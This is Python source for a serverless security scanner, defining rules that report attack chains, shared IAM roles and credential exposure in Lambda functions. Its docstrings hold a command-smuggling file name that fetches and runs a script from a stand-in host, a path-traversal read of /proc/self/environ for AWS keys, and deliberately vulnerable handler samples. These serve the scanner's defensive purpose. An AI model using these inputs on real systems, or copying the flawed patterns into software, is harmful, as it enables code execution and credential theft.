"""FG9xx: attack paths across layers, read from the attack graph (`faasguard.analysis.paths`).

The graph decides what a path is; these rules only turn it into findings, so the JSON `paths` section, the
HTML graph and FG901 can never disagree about which paths exist.
"""

from __future__ import annotations

from collections.abc import Iterator

from faasguard.analysis.paths import (
    AttackGraph,
    Capability,
    CredentialKind,
    Exposure,
    Flaw,
    FunctionNode,
    Impact,
    ReachKind,
    short_name,
)
from faasguard.findings import Confidence, EvidenceStep, Finding, Severity
from faasguard.rules.base import Rule, RuleContext, register


def _graph(ctx: RuleContext) -> AttackGraph | None:
    return ctx.facts.paths


@register
class AttackPath(Rule):
    """
    ## What it does
    Reports each reachable kill chain of the application: an entry point an outsider can reach (an HTTP route
    or function URL without authorization, a bucket, queue or topic anyone may write to (FG311); at lower
    severity a bucket, queue, topic or stream whose data comes from the application's users, an authenticated
    or IAM-only route) fires a function whose handler has a flaw that gives
    code execution, a file read or an SSRF (FG501, FG502, FG505, FG506, FG507, FG508), and the credentials the
    function holds -- its execution role, plaintext secrets in its environment, secrets it leaves in /tmp --
    reach something sensitive: a privilege-escalation method, secrets, data, other functions. One finding per
    (entry, function), the routes of one API with the same authorization counting as one entry (a function
    that serves a whole API gets one path naming its routes, not one per route); its evidence lists every hop
    with its location (the trigger's template line, the handler's taint steps, the role, each policy
    statement). Severity is exposure × impact: an anonymous
    entry with escalation or account-wide reach is critical, the same through a data source only the
    application's users write to is high, an authenticated user reaching one table is medium. Internal
    entries (schedules, EventBridge rules) start no path.

    ## Why is this bad?
    Each flaw alone looks like one more finding; chained, they are a breach. An attacker uploads an object
    named `x.png; curl evil.sh | sh`, the converter's shell runs it, the function's keys leave with it, and the
    catch-all role reads every secret of the account.

    ## Example
    ```yaml
    ImageConverterFunction:
      Type: AWS::Serverless::Function
      Properties:
        Role: !GetAtt SharedCatchAllRole.Arn   # secretsmanager:GetSecretValue on "*"
        Events:
          Upload: {Type: S3, Properties: {Bucket: !Ref UploadsBucket, Events: s3:ObjectCreated:*}}
    # app.py: subprocess.run(f"convert /tmp/{key} ...", shell=True)
    ```

    ## Fix
    Break the chain at every link: pass an argument list without `shell=True`, give the function its own role
    with only what it needs, and scope secrets to the ones it reads.
    ```yaml
    ImageConverterFunction:
      Type: AWS::Serverless::Function
      Properties:
        Policies:
          - S3ReadPolicy: {BucketName: !Ref UploadsBucket}
    # app.py: subprocess.run(["convert", local_path, "-resize", "128x128", "/tmp/thumb.png"], check=True)
    ```
    """

    id = "FG901"
    name = "attack-path"
    summary = "An outsider's event reaches a flaw whose stolen credentials reach something sensitive"
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = "CWE-284"
    owasp = "SAS-1"

    def check(self, ctx: RuleContext) -> Iterator[Finding]:
        graph = _graph(ctx)
        if graph is None:
            return
        for path in graph.paths:
            flaw = path.flaws[0]
            yield self.finding(
                f"{path.summary} (path {path.rank} of {len(graph.paths)}, {path.entry.exposure.label})",
                flaw.location, path.function, function=path.function, severity=path.severity,
                confidence=path.confidence, evidence=path.hops,
                fix="Break the chain at its cheapest link: fix the handler flaw "
                    f"({', '.join(sorted({f.rule_id for f in path.flaws}))}), require authorization on the entry, "
                    "and scope the role to what this function needs (`faasguard policy generate`).")


@register
class SharedRoleBlastRadius(Rule):
    """
    ## What it does
    For every execution role shared by several functions, finds the weakest sharer -- one whose handler has a
    flaw that yields credentials (code execution, file read, SSRF), the most exposed first -- and reports the
    permissions its compromise yields that only the other sharers need, naming both functions and what is
    gained. Needs come from the code analysis of each sharer (the same facts as `faasguard policy generate`);
    a sharer whose handler was not analysed is left out, never guessed.

    ## Why is this bad?
    A shared role turns the weakest function into a key to every sharer's data: a thumbnail generator with a
    shell injection hands out the audit table that only the admin function writes.

    ## Example
    ```yaml
    ImageConverterFunction:  # shell injection in its handler
      Type: AWS::Serverless::Function
      Properties:
        CodeUri: src/converter/
        Role: !GetAtt SharedCatchAllRole.Arn
    DbAdminFunction:  # the only one that writes AuditTable
      Type: AWS::Serverless::Function
      Properties:
        CodeUri: src/dbadmin/
        Role: !GetAtt SharedCatchAllRole.Arn
    ```

    ## Fix
    ```yaml
    ImageConverterFunction:
      Type: AWS::Serverless::Function
      Properties:
        CodeUri: src/converter/
        Policies: [S3ReadPolicy: {BucketName: !Ref UploadsBucket}]
    DbAdminFunction:
      Type: AWS::Serverless::Function
      Properties:
        CodeUri: src/dbadmin/
        Policies: [DynamoDBWritePolicy: {TableName: !Ref AuditTable}]
    ```
    """

    id = "FG902"
    name = "shared-role-blast-radius"
    summary = "Compromising the weakest function of a shared role yields what only another sharer needs"
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = "CWE-269"
    owasp = "SAS-4"
    checklist = "C1"

    def check(self, ctx: RuleContext) -> Iterator[Finding]:
        graph = _graph(ctx)
        iam = ctx.facts.iam
        if graph is None or iam is None:
            return
        by_role: dict[str, list[FunctionNode]] = {}
        for node in graph.functions.values():
            if node.role is not None:
                by_role.setdefault(node.role, []).append(node)
        for role_id, sharers in sorted(by_role.items()):
            if len(sharers) < 2:
                continue
            weak = [n for n in sharers if _credential_flaws(n)]
            if not weak:
                continue
            weakest = max(weak, key=lambda n: (_exposure(n), n.function))
            weak_needs = iam.needs.get(weakest.function)
            if weak_needs is None or not weak_needs.code_analyzed:
                continue
            mine = weak_needs.actions()
            gains: list[tuple[str, list[str], list[EvidenceStep]]] = []
            for other in sorted(sharers, key=lambda n: n.function):
                needs = iam.needs.get(other.function)
                if other is weakest or needs is None or not needs.code_analyzed:
                    continue
                extra = [n for n in needs.needs if n.action not in mine and n.origin == "code"]
                if not extra:
                    continue
                described = list(dict.fromkeys(f"{n.action} on {_resource(n.resource)}" for n in extra))
                steps = [EvidenceStep(f"{other.function} needs {n.action} ({n.reason})", n.location)
                         for n in extra if n.location is not None]
                gains.append((other.function, described, steps))
            if not gains:
                continue
            role = ctx.app.role(role_id)
            if role is None:
                continue
            flaw = _credential_flaws(weakest)[0]
            entry = max(weakest.entries, key=lambda e: e.exposure, default=None)
            exposure = entry.exposure if entry is not None else Exposure.INTERNAL
            reached = f" ({entry.description})" if entry is not None else ""
            gained = "; ".join(f"{name}'s {', '.join(what[:4])}{'…' if len(what) > 4 else ''}"
                               for name, what, _ in gains)
            evidence = [EvidenceStep(f"weakest sharer {weakest.function}: {flaw.rule_id} {flaw.name}{reached}",
                                     flaw.location)]
            if entry is not None:
                evidence.append(EvidenceStep(f"entry: {entry.description}", entry.location))
            for _, _, steps in gains:
                evidence.extend(steps)
            severity = self.severity if exposure >= Exposure.AUTHENTICATED else Severity.MEDIUM
            yield self.finding(
                f"role {role_id} is shared: compromising {weakest.function} through its {flaw.name} yields "
                f"permissions only other sharers need: {gained}",
                role.location, role_id, function=[weakest.function, *(g[0] for g in gains)], severity=severity,
                evidence=evidence,
                fix=f"Give {weakest.function} its own role with only what it needs (`faasguard policy generate "
                    f". --function {weakest.function}`), and the other sharers theirs.")


def _credential_flaws(node: FunctionNode) -> list[Flaw]:
    return [f for f in node.flaws if f.capability.yields_credentials]


def _exposure(node: FunctionNode) -> Exposure:
    return max((e.exposure for e in node.entries), default=Exposure.INTERNAL)


def _resource(resource: object) -> str:
    return short_name(resource) if isinstance(resource, str) else "an unresolved resource"


@register
class CredentialExposure(Rule):
    """
    ## What it does
    Finds a file-read (path traversal, FG506) or SSRF (FG507) flaw in a function that holds secrets an
    attacker reads with it: plaintext secrets in its environment (`/proc/self/environ` holds them, and the
    role's session keys), secrets it decrypts or fetches and leaves in `/tmp`, or role credentials that reach
    secrets or data. An SSRF reaches the Lambda runtime API on localhost and, through `file://` URLs, the same
    files. Reported whatever the entry: the flaw and the secrets are in the same place.

    ## Why is this bad?
    A read of `../../proc/self/environ` returns `AWS_ACCESS_KEY_ID`, `AWS_SECRET_ACCESS_KEY`,
    `AWS_SESSION_TOKEN` and every environment variable: the attacker becomes the function.

    ## Example
    ```python
    def handler(event, context):
        with open("/var/task/static/" + event["queryStringParameters"]["file"]) as f:   # ../../proc/self/environ
            return {"body": f.read()}
    ```

    ## Fix
    ```python
    def handler(event, context):
        name = os.path.basename(event["queryStringParameters"]["file"])
        with open(os.path.join("/var/task/static", name)) as f:
            return {"body": f.read()}
    ```
    Keep secrets out of the environment (fetch them from Secrets Manager at init) and scope the role.
    """

    id = "FG903"
    name = "credential-exposure"
    summary = "A file-read or SSRF flaw in a function whose environment, /tmp or role credentials hold secrets"
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = "CWE-522"
    owasp = "SAS-7"
    checklist = "C2"

    def check(self, ctx: RuleContext) -> Iterator[Finding]:
        graph = _graph(ctx)
        if graph is None:
            return
        for node in graph.functions.values():
            flaws = [f for f in node.flaws if f.capability in (Capability.FILE_READ, Capability.SSRF)]
            if not flaws:
                continue
            held = [c for c in node.credentials if c.kind is not CredentialKind.ROLE]
            secret_reach = [r for r in node.reach if r.kind in (ReachKind.SECRETS, ReachKind.ESCALATION)]
            other_reach = [r for r in node.reach if r not in secret_reach]
            if not held and not node.reach:
                continue
            what = [f"environment variable {c.name}" if c.kind is CredentialKind.ENVIRONMENT else c.name
                    for c in held]
            if node.reach:
                gains = ", ".join(dict.fromkeys(a for r in (secret_reach or other_reach) for a in r.actions))
                what.append(f"the keys of role {node.role} ({gains})")
            flaw = flaws[0]
            severity = self.severity
            if not held and not secret_reach and all(r.impact is Impact.SCOPED for r in node.reach):
                severity = Severity.MEDIUM
            evidence = [EvidenceStep(f"{f.rule_id} {f.name}: {f.sink}", f.location) for f in flaws]
            evidence += [EvidenceStep(f"holds {c.kind.value} {c.name}", c.location) for c in node.credentials]
            evidence += [EvidenceStep(f"role reaches: {r.description}", r.location) for r in node.reach[:4]]
            yield self.finding(
                f"{node.function}: its {flaw.name} ({flaw.sink}) can read {'; '.join(what)}",
                flaw.location, node.function, function=node.function, severity=severity,
                confidence=Confidence.MEDIUM if all(f.capability is Capability.SSRF for f in flaws) else None,
                evidence=evidence,
                fix="Fix the flaw (basename the path, allow-list the URL's host and scheme), move secrets from the "
                    "environment to Secrets Manager, delete what the handler writes to /tmp, and scope the role.")
